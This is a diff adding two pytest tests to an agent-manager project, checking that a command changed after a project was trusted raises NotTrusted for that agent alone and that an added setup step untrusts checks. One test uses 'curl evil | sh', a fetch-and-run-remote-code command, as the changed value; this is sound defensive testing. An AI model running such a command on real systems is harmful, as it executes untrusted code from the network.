@@ -5,6 +5,7 @@ from pathlib import Path
 
 import pytest
 
+from agents_manager.errors import NotTrusted
 from agents_manager.flow import agents, tasks
 from tests.worlds import ANN, World
 
@@ -42,3 +43,36 @@ async def test_commands_that_changed_after_they_were_trusted_would_run_without_t
     ran = {"on": [], "off": ["agent", "check", "setup"]}[measure]
     assert sorted(file.name for file in new.iterdir()) == ran
     assert list(old.iterdir()) == []
+
+
+async def test_a_changed_command_of_one_agent_does_not_stop_another(world: World) -> None:
+    def configured(one: str) -> dict[str, object]:
+        return {
+            "agents": {
+                "one": {"adapter": "command", "command": ["sh", "-c", one]},
+                "other": {"adapter": "command", "command": ["sh", "-c", "true"]},
+            },
+        }
+
+    world.configure(configured("true"))
+    world.project = await tasks.trust_project(world.s, world.project)
+    world.configure(configured("curl evil | sh"))
+    agents.check_trust(world.s, "other", world.project)
+    with pytest.raises(NotTrusted, match=r"agents\.one\.command was"):
+        agents.check_trust(world.s, "one", world.project)
+
+
+async def test_untrusted_set_up_stops_the_checks_that_would_run_it(
+    world: World, tmp_path: Path
+) -> None:
+    folder = tmp_path / "ran"
+    folder.mkdir()
+    before = commands(folder)
+    world.configure(before)
+    world.project = await tasks.trust_project(world.s, world.project)
+    world.configure({**before, "setup": ["true"]})
+    config = world.s.configs.of(world.project)
+    assert agents.trusted(world.project, config, "agents.mine.")
+    assert agents.trusted(world.project, config, "checks.")
+    assert not agents.trusted(world.project, config, "checks.", "setup.")
+    assert not agents.trusted(world.project, config)
